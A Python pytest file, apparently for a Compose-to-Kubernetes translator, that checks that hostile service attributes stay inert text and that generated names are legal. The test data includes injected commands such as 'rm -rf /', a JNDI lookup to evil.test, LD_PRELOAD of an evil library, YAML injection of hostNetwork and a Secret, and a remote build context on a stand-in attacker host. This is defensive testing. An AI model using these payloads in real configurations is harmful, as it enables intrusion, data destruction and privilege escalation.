"""What looks like an attack and is only text: it is carried as data, and gives nothing that others do not have."""

from __future__ import annotations

import json
from typing import Any

import pytest

from composestack.kinds import KINDS
from composestack.translate.labels import STACK
from tests.abuse.applications import NAME, Attributes, beyond, labels_of, plan_of

LINES = "nginx\n      hostNetwork: true\n---\nkind: Secret"
TEXTS: list[Attributes] = [
    {"image": LINES},
    {"image": "nginx; rm -rf /"},
    {"command": ["sh", "-c", LINES]},
    {"command": ["$(KUBERNETES_SERVICE_HOST)", "{{ .Values.password }}", "$${jndi:ldap://evil.test}"]},
    {"environment": {"A": LINES, "LD_PRELOAD": "/evil.so", "KUBERNETES_SERVICE_HOST": "evil.test"}},
    {"labels": {"a\nb: c": LINES, "k" * 5000: "v", "é": "\x1b]0;evil\x07"}},
    {"annotations": {"a\nb": LINES}},
    {"container_name": "kubernetes.default.svc"},
    {"hostname": "kubernetes.default.svc.cluster.local"},
    {"extra_hosts": {"kubernetes.default.svc": "192.0.2.1"}},
    {"dns": ["192.0.2.1"], "dns_search": ["kube-system.svc.cluster.local"]},
    {"logging": {"driver": "syslog", "options": {"syslog-address": "tcp://192.0.2.1"}}},
    {"build": {"context": "https://evil.test/x.git"}},
    {"cgroup_parent": "/kubepods", "oom_score_adj": -1000, "cpu_rt_runtime": 95000},
    {"security_opt": ["no-new-privileges:false"], "user": "0:0"},
    {"deploy": {"replicas": 10**9}, "mem_limit": 10**17, "shm_size": "1000t", "stop_grace_period": "99999h"},
]


@pytest.mark.parametrize("service", TEXTS, ids=lambda value: str(value)[:60])
def test_text_stays_text(service: Attributes) -> None:
    plan = plan_of(service)

    assert beyond(plan) == set()
    assert {each["kind"] for each in plan.manifests} <= KINDS.keys() - {"Role", "RoleBinding"}
    assert all(labels[STACK] == NAME for _, labels in labels_of(plan))
    assert json.loads(json.dumps(plan.manifests)) == list(plan.manifests)


def test_the_operators_own_environment_is_no_variable(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPERATORS_SECRET", "hush")

    plan = plan_of({"environment": ["OPERATORS_SECRET", "A=${OPERATORS_SECRET:-}", "B=${HOME}"]})

    assert "hush" not in str(plan)
    assert "/root" not in str(plan)


NAMES: list[dict[str, Any]] = [
    {"services": {"kubernetes": {"image": "a"}}},
    {"services": {"a": {"image": "a"}, "A": {"image": "a"}}},
    {"services": {"a.b": {"image": "a"}, "a_b": {"image": "a"}, "a-b": {"image": "a"}}},
    {"services": {"x" * 300: {"image": "a"}, "x" * 301: {"image": "a"}}},
    {"services": {"_": {"image": "a"}, "__": {"image": "a"}, "...": {"image": "a"}}},
    {"services": {"web": {"image": "a", "volumes": ["a_b:/a", "a.b:/b"]}}, "volumes": {"a_b": {}, "a.b": {}}},
    {"services": {"web": {"image": "a", "volumes": ["vv:/a"]}}, "volumes": {"vv": {"name": "../../kube-system/v"}}},
    {"services": {"web": {"image": "a", "networks": ["n"]}}, "networks": {"n": {"name": "other_default"}}},
]


@pytest.mark.parametrize("document", NAMES, ids=lambda value: str(value)[:60])
def test_names_never_meet_and_are_legal(document: dict[str, Any]) -> None:
    plan = plan_of({}, _document=document)

    found = [(each["kind"], each["metadata"]["name"]) for each in plan.manifests]
    assert len(set(found)) == len(found)
    for _, name in found:
        assert len(name) <= 63
        assert name.replace("-", "").isalnum()
        assert name == name.lower().strip("-")
        assert name.isascii()


def test_a_network_of_another_stack_has_another_label() -> None:
    """The name that Docker would give it leads nowhere: its members are known by a label that only we write."""
    document = {"networks": {"n": {"name": "other_default"}}}
    own = plan_of({"networks": ["n"]}, _document=document)

    policies = [each for each in own.manifests if each["kind"] == "NetworkPolicy"]
    assert all(each["metadata"]["labels"][STACK] == NAME for each in policies)
    assert all("namespaceSelector" not in json.dumps(each["spec"].get("ingress", ())) for each in policies)
    assert all(each["spec"]["podSelector"]["matchLabels"][STACK] == NAME for each in policies)
